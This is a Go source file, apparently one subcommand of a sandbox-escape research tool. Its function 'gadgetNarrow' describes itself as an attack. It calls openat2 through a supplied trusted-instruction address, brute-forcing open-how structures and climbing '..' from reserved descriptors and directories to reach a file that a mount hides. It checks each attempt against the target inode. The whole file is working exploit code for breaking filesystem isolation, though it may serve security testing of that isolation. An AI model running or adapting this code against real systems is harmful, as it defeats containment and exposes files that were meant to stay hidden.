//go:build amd64

package main

import (
	"fmt"
	"os"
	"path"
	"runtime"
	"strconv"
	"strings"

	"golang.org/x/sys/unix"
)

func init() { commands["gadget-narrow"] = gadgetNarrow }

// gadgetNarrow attacks the trusted instruction of the fast path to get at a file that
// a mount hides. Its arguments are the addresses of that instruction, of "..", of the how
// table, of the opens that go with "..", and their end, the first reserved descriptor and the one
// behind the last, the file, and its inode. Directories beside the way to the file are
// used first, then those on it.
func gadgetNarrow(args []string) int {
	runtime.LockOSThread()
	var v [8]uintptr
	for i := range v {
		n, err := strconv.ParseUint(args[i], 0, 64)
		if err != nil {
			return fail("%v", err)
		}
		v[i] = uintptr(n)
	}
	at, dotdot, how, up, end, first, last, ino := v[0], v[1], v[2], v[3], v[4], v[5], v[6], uint64(v[7])
	file := args[8]
	if _, err := os.Stat(file); !os.IsNotExist(err) {
		return fail("the view shows %s: %v", file, err)
	}
	opened, tried, got := 0, 0, 0
	try := func(what string, fd uintptr, name string, h uintptr, p uintptr) int {
		if p == 0 {
			p = cstr(name)
		}
		tried++
		f := int(callAt(at, unix.SYS_OPENAT2, &[6]uintptr{fd, p, h, 24}))
		if f < 0 {
			return -1
		}
		opened++
		var st unix.Stat_t
		if unix.Fstat(f, &st) == nil && st.Ino == ino {
			if got++; got == 1 {
				fmt.Printf("got it: %s, %q, %#x\n", what, name, h)
			}
		}
		return f
	}
	// names are how the file may be called from a directory.
	names := func(dir string) []string {
		if dir == "" { // reserved: it may be any
			all := []string{"usr/../" + file[1:]}
			for i := range file {
				if file[i] == '/' {
					all = append(all, file[i+1:])
				}
			}
			return all
		}
		rel := strings.TrimPrefix(file, path.Join(dir, "/"))
		rel = strings.TrimPrefix(rel, "/")
		return []string{file[1:], rel, strings.Repeat("../", 12) + file[1:], "usr/../" + file[1:]}
	}
	attack := func(dirs []string) {
		type place struct {
			what string
			fd   uintptr
			dir  string
		}
		var places []place
		for fd := first; fd < last; fd++ {
			places = append(places, place{fmt.Sprintf("reserved %d", fd), fd, ""})
		}
		for _, dir := range dirs {
			if fd, err := unix.Open(dir, unix.O_RDONLY|unix.O_DIRECTORY, 0); err == nil {
				places = append(places, place{dir, uintptr(fd), dir})
			}
			if unix.Chdir(dir) == nil {
				cwd := unix.AT_FDCWD
				places = append(places, place{"in " + dir, uintptr(cwd), dir})
			}
			for _, pl := range places {
				for i := uintptr(0); how+i*32 < end; i++ {
					h := how + i*32
					if i > 320 { // for writing
						i += 6
					}
					for _, name := range names(pl.dir) {
						if fd := try(pl.what, pl.fd, name, h, 0); fd >= 0 {
							unix.Close(fd)
						}
					}
				}
				// Up, as far as it goes.
				fd := int(pl.fd)
				for range 6 {
					for h := up; h < end; h += 32 {
						next := try(pl.what+" up", uintptr(fd), "..", h, dotdot)
						if next < 0 {
							continue
						}
						fd = next
						for g := how; g < up; g += 32 {
							for _, name := range names("/") {
								if f := try(pl.what+" up", uintptr(fd), name, g, 0); f >= 0 {
									unix.Close(f)
								}
							}
						}
						break
					}
				}
			}
			places = places[:0]
		}
	}
	attack([]string{"/usr", "/usr/bin", "/etc", path.Dir(path.Dir(file)) + "/beside"})
	beside := opened
	var way []string
	for dir := path.Dir(path.Dir(file)); ; dir = path.Dir(dir) {
		way = append(way, dir)
		if dir == "/" {
			break
		}
	}
	attack(way)
	if err := unix.Access(path.Dir(path.Dir(file))+"/beside", unix.F_OK); err != nil {
		fmt.Println("afterwards:", err)
	}
	fmt.Printf("tried %d, opened %d, then %d\n", tried, beside, opened-beside)
	return 0
}
